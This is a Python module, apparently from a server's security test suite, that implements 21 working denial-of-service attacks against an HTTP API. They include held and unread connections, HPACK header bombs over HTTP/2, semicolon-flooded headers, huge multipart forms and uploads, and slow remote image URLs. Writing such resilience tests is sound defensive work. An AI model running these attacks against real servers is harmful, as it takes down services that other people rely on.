"""Those who would stop the others: each attack of the security review, at any share of its size, against a server.

    with beside(server) as felt:
        told = long_accept(Target(server, ""), 0.1)      # the status of each answer; 0 where none came

`ATTACKS` is the table of them. Those that hold connections or answers hold them until HOLD seconds are over.
"""

from __future__ import annotations

import base64
import contextlib
import itertools
import selectors
import socket
import string
import threading
import time
from typing import TYPE_CHECKING, Final, NamedTuple
from urllib.parse import urlsplit

from pictures import jpeg
from probing import need_descriptors

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Sequence

    from serving import Served

HOLD: Final = 12.0
"""Seconds for which a connection, or an answer that nobody reads, is held."""
PATIENCE: Final = 60.0
"""Seconds after which an attacker no longer waits for an answer."""
FORM: Final = "application/x-www-form-urlencoded"


class Target(NamedTuple):
    """A server, as one of its accounts sees it."""

    server: Served
    photos: str
    """The address of a photo whose server never answers, percent-encoded."""

    @property
    def account(self) -> str:
        return f"/Advertisers/{self.server.sid}"

    @property
    def contacts(self) -> str:
        return f"{self.account}/Campaigns/1000/Contacts"

    @property
    def basic(self) -> str:
        pair = f"{self.server.sid}:{self.server.token}"
        return f"Authorization: Basic {base64.b64encode(pair.encode()).decode()}\r\n"


class Attack(NamedTuple):
    """One way to stop the others."""

    what: str
    """What it does, at its whole size."""
    run: Callable[[Target, float], Sequence[int]]
    """Attacks with that share of its size, and returns the status of each answer, 0 where none came."""
    photos: bool = False
    """Whether it is other accounts' photos that it holds up, and not every request."""
    fresh: bool = False
    """Whether it takes the place of new connections alone."""


# Without credentials


def long_accept(target: Target, share: float) -> Sequence[int]:
    value = 'a/b;x="' + ";" * int(400_000 * share)
    return [sent(target, _request("GET", "/Advertisers/x/Campaigns", f"Accept: {value}\r\n"))]


def repeated_key(target: Target, share: float) -> Sequence[int]:
    names = map("".join, itertools.product(string.ascii_lowercase + string.digits, repeat=3))
    fields = ",".join(f'"{name}":0' for name in itertools.islice(names, int(32_500 * share)))
    body = f'{{"aaa":1,{fields}}}'.encode()
    return [sent(target, _request("POST", "/api/v2", "Content-Type: application/json\r\n", body))]


def http2_large_fields(target: Target, share: float) -> Sequence[int]:
    """One field of 4,000 octets, and then its number in the table of HPACK (RFC 7541), an octet each time."""
    field = b"\x40\x01a" + _prefixed(4_000, 7) + b"x" * 4_000
    return [_over_http2(target, field + b"\xbe" * int(400_000 * share))]


def http2_many_fields(target: Target, share: float) -> Sequence[int]:
    names = map("".join, itertools.product(string.ascii_lowercase, repeat=4))
    fields = (b"\0\4" + name.encode() + b"\0" for name in itertools.islice(names, int(22_000 * share)))
    return [_over_http2(target, b"".join(fields))]


def silent_connections(target: Target, share: float) -> Sequence[int]:
    return _held(target, int(2_000 * share), b"")


def readers_that_do_not_read(target: Target, share: float) -> Sequence[int]:
    return _held(target, int(2_000 * share), _request("GET", "/openapi.json") * 50)


def small_pieces(target: Target, share: float) -> Sequence[int]:
    head = "POST /api/v2 HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    return [sent(target, head.encode() + b"1\r\n \r\n" * int(200_000 * share) + b"0\r\n\r\n")]


def unfinished_bodies(target: Target, share: float, hold: float = HOLD) -> Sequence[int]:
    head = "POST /api/v2 HTTP/1.1\r\nHost: localhost\r\nContent-Length: 262144\r\n\r\n"
    return _held(target, int(2_000 * share), head.encode() + b" " * 260_000, hold)


# With any token


def long_content_type(target: Target, share: float) -> Sequence[int]:
    kind = 'multipart/form-data; x="' + ";" * int(400_000 * share)
    return [sent(target, _request("POST", target.contacts, f"{target.basic}Content-Type: {kind}\r\n", b"x"))]


def long_part_head(target: Target, share: float) -> Sequence[int]:
    head = b'Content-Disposition: form-data; name="' + b";" * int(8_000 * share)
    return [_multipart(target, [(head, b"x")] * 60)]


def jpeg_of_fill_octets(target: Target, share: float) -> Sequence[int]:
    return _at_once(5, lambda _: _upload(target, b"\xff\xd8" + b"\xff" * int(300_000 * share) + jpeg()[2:]))


def large_uploads(target: Target, share: float) -> Sequence[int]:
    image = jpeg()
    image += bytes(10 * 1024 * 1024 - len(image))
    return _at_once(int(50 * share), lambda _: _upload(target, image))


def unread_lists(target: Target, share: float) -> Sequence[int]:
    return _held(target, int(100 * share), _request("GET", f"{target.contacts}?PageSize=20000", target.basic))


def unread_cards(target: Target, _share: float) -> Sequence[int]:
    """Those of campaign 1001."""
    return _held(target, 1, _request("GET", f"{target.account}/Campaigns/1001/Contacts.vcf", target.basic))


def slow_addresses(target: Target, share: float) -> Sequence[int]:
    return _at_once(int(160 * share), lambda n: created(target, f"ProfileImageUrl={target.photos}%3F{n}"))


def many_ids(target: Target, share: float) -> Sequence[int]:
    ids = ",".join(map(str, range(100_000, 100_000 + int(149_000 * share))))
    return [created(target, f"Accounts={ids}")]


def many_labels(target: Target, share: float) -> Sequence[int]:
    labels = ",".join(map(str, range(100_000, 100_000 + int(149_000 * share))))
    return [created(target, f"Labels={labels}")]


def encoded_fields(target: Target, share: float) -> Sequence[int]:
    return [created(target, "&".join(f"%C3%A9{n:06}=" for n in range(int(74_000 * share))))]


def many_parts(target: Target, share: float) -> Sequence[int]:
    return [_multipart(target, [(b"Content-Disposition: form-data; name=a", b"")] * int(100_000 * share))]


def many_words(target: Target, share: float) -> Sequence[int]:
    words = "+".join(f"a{n}" for n in range(int(8_000 * share)))
    return [sent(target, _request("GET", f"{target.contacts}?Search={words}", target.basic))]


def long_phone(target: Target, share: float) -> Sequence[int]:
    number = "0" * int(1_200 * share)
    return [created(target, f"WorkPhoneNumber={number}x&WorkPhoneNumberCountry=US")]


ATTACKS: Final = {
    "long Accept": Attack("an Accept of 400,000 semicolons after a quote", long_accept),
    "repeated key": Attack("createcontact with a key twice among 32,500", repeated_key),
    "HTTP/2, large": Attack("406 KB of fields over HTTP/2 that unpack to 1.6 GB", http2_large_fields),
    "HTTP/2, many": Attack("156 KB of different fields over HTTP/2", http2_many_fields),
    "silent": Attack("2,000 connections that say nothing", silent_connections, fresh=True),
    "not reading": Attack("2,000 that ask for much and read nothing", readers_that_do_not_read, fresh=True),
    "small pieces": Attack("a body of 200,000 octets, each in a chunk of its own", small_pieces),
    "unfinished bodies": Attack("2,000 bodies of 254 KiB that lack their end", unfinished_bodies, fresh=True),
    "long Content-Type": Attack("a Content-Type of 400,000 semicolons after a quote", long_content_type),
    "long part head": Attack("60 parts whose heads have 8,000 semicolons after a quote", long_part_head),
    "fill octets": Attack("five JPEGs of 300 KB of 0xFF at once", jpeg_of_fill_octets, photos=True),
    "large uploads": Attack("50 uploads of 10 MiB at once", large_uploads),
    "unread lists": Attack("100 lists of 20,000 that nobody reads", unread_lists),
    "unread cards": Attack("one list of 60 cards of 4 MiB that nobody reads", unread_cards),
    "slow addresses": Attack("160 photos at once from a server that never answers", slow_addresses, photos=True),
    "many ids": Attack("1 MiB of ids of partner accounts", many_ids),
    "many labels": Attack("1 MiB of labels", many_labels),
    "encoded fields": Attack("1 MiB of percent-encoded fields", encoded_fields),
    "many parts": Attack("a form of 100,000 parts", many_parts),
    "many words": Attack("a search for 8,000 words", many_words),
    "long phone": Attack("a phone number of 1,200 digits and a letter", long_phone),
}


# How they do it


def _request(method: str, path: str, head: str = "", body: bytes = b"") -> bytes:
    length = f"Content-Length: {len(body)}\r\n" if body else ""
    return f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{head}{length}\r\n".encode() + body


def _address(target: Target) -> tuple[str, int]:
    parts = urlsplit(target.server.url)
    return str(parts.hostname), int(parts.port or 80)


def sent(target: Target, data: bytes) -> int:
    """Send it, and return the status of the answer."""
    with socket.socket() as connection:
        connection.settimeout(PATIENCE)
        connection.connect(_address(target))
        with contextlib.suppress(OSError):  # what was answered before the end may still be read
            connection.sendall(data)
        with contextlib.suppress(OSError):
            if (line := connection.makefile("rb").readline(100)).startswith(b"HTTP/1.1 "):
                return int(line.split()[1])
    return 0


def created(target: Target, fields: str) -> int:
    """Make a contact, with these fields beside the required ones, and return the status."""
    body = f"FirstName=Wile&LastName=Coyote&EmailAddress=wile@example.com&{fields}"
    body += "" if "Accounts=" in fields else "&Accounts=10000"
    head = f"{target.basic}Content-Type: {FORM}\r\n"
    return sent(target, _request("POST", target.contacts, head, body.encode()))


def _multipart(target: Target, parts: Iterable[tuple[bytes, bytes]]) -> int:
    body = b"".join(b"--b\r\n" + head + b"\r\n\r\n" + data + b"\r\n" for head, data in parts) + b"--b--\r\n"
    head = f"{target.basic}Content-Type: multipart/form-data; boundary=b\r\n"
    return sent(target, _request("POST", target.contacts, head, body))


def _upload(target: Target, image: bytes) -> int:
    fields = {"FirstName": "Wile", "LastName": "Coyote", "EmailAddress": "wile@example.com", "Accounts": "10000"}
    parts = [
        (f'Content-Disposition: form-data; name="{name}"'.encode(), text.encode()) for name, text in fields.items()
    ]
    file = b'Content-Disposition: form-data; name="ProfileImageFile"; filename="a.jpg"\r\nContent-Type: image/jpeg'
    return _multipart(target, [*parts, (file, image)])


def _at_once(count: int, one: Callable[[int], int]) -> list[int]:
    told = [0] * count

    def run(number: int) -> None:
        told[number] = one(number)

    threads = [threading.Thread(target=run, args=(number,)) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return told


def _held(target: Target, count: int, data: bytes, hold: float = HOLD) -> list[int]:
    """Open so many connections, send on each as much as it takes, read nothing, and close them after `hold` seconds.

    Returns 0 for each that is open then, and 1 for each that the server has ended.
    """
    need_descriptors(count + 100)
    end = time.monotonic() + hold
    with contextlib.ExitStack() as open_ones, selectors.DefaultSelector() as ready:
        connections = []
        for _ in range(count):
            connection = open_ones.enter_context(socket.socket())
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.setblocking(False)  # noqa: FBT003 - the name says it
            connection.connect_ex(_address(target))
            ready.register(connection, selectors.EVENT_WRITE, memoryview(data))
            connections.append(connection)
        while (rest := end - time.monotonic()) > 0:
            for key, _ in ready.select(rest) if ready.get_map() else ():
                assert isinstance(key.fileobj, socket.socket)
                try:
                    left = key.data[key.fileobj.send(key.data) :] if key.data else b""
                except OSError:
                    left = b""
                if left:
                    ready.modify(key.fileobj, selectors.EVENT_WRITE, left)
                else:
                    ready.unregister(key.fileobj)
            if not ready.get_map():
                time.sleep(max(0.0, end - time.monotonic()))
        return [_ended(connection) for connection in connections]


def _ended(connection: socket.socket) -> int:
    try:
        while connection.recv(65_536):
            pass
    except BlockingIOError:
        return 0
    except OSError:
        pass
    return 1


def _over_http2(target: Target, fields: bytes) -> int:
    """Send a request over HTTP/2 without TLS (RFC 9113 section 3.3); 200 when it is answered, whatever with."""
    # :method GET, :scheme http, :path /, and an authority, by their numbers in the static table
    block = b"\x82\x86\x84\x41\x09localhost" + fields
    pieces = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    frames = [_frame(4, 0, 0, b"")]
    for number, piece in enumerate(pieces):
        kind, last = (9 if number else 1), (4 if number == len(pieces) - 1 else 0)
        frames.append(_frame(kind, last | (0 if number else 1), 1, piece))
    with socket.socket() as connection:
        connection.settimeout(PATIENCE)
        connection.connect(_address(target))
        with contextlib.suppress(OSError):
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"".join(frames))
        with contextlib.suppress(OSError):
            answer = connection.makefile("rb")
            while len(head := answer.read(9)) == 9 and head[:5] != b"HTTP/":  # else it is HTTP/1.1 that was spoken
                answer.read(int.from_bytes(head[:3], "big"))
                if head[3] in {1, 3}:  # HEADERS, or RST_STREAM
                    return 200 if head[3] == 1 else 0
    return 0


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _prefixed(number: int, bits: int) -> bytes:
    """Return an integer of HPACK (RFC 7541 section 5.1)."""
    most = 2**bits - 1
    if number < most:
        return bytes((number,))
    number -= most
    octets = [most]
    while number >= 128:
        octets.append(number % 128 + 128)
        number //= 128
    return bytes((*octets, number))
